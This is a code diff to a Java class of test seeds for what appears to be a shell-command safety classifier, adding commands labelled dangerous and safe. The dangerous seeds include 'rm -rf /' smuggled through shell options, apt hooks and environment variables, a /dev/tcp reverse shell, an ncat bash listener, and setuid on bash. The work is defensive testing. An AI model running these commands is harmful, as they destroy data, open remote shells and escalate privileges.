@@ -70,8 +70,16 @@ final class Seeds {
             Seed.simple("iptables -F"),
             Seed.simple("crontab -r"),
             Seed.simple("mv /etc /tmp/etc.old"),
-            Seed.simple("truncate -s 0 /var/log/wtmp"));
+            Seed.simple("truncate -s 0 /var/log/wtmp"),
+            // code run by other programs: shells' code options, hooks, environment variables, descriptors
+            Seed.argv("fish", "-c", "rm -rf /"),
+            Seed.argv("apt-get", "-o", "APT::Update::Pre-Invoke::=rm -rf /", "update"),
+            Seed.code("GIT_SSH_COMMAND='rm -rf ~' git fetch", false),
+            Seed.code("exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5 >&5 2>&5", true),
+            Seed.simple("ncat -lvp 4444 -e /bin/bash"),
+            Seed.simple("chmod u+s", " $(which bash)", false));
 
+    /** Commands judged SAFE (decoded into a shell, they stay below DANGEROUS only when harmless). */
     static final List<Seed> SAFE = List.of(
             Seed.simple("ls"),
             Seed.simple("ls -la"),
@@ -100,6 +108,8 @@ final class Seeds {
             Seed.argv("awk", "{print $1}", "access.log"),
             Seed.code("for f in *.txt; do wc -l \"$f\"; done", false),
             Seed.code("cd src && ls", false),
-            Seed.simple("nc -z localhost 8080"),
-            Seed.simple("bash -n build.sh"));
+            Seed.simple("diff -u old.txt new.txt"),
+            Seed.simple("bash -n build.sh"),
+            Seed.code("GIT_PAGER=cat git log --oneline", false),
+            Seed.simple("ls -l", " $(which bash)", false));
 }
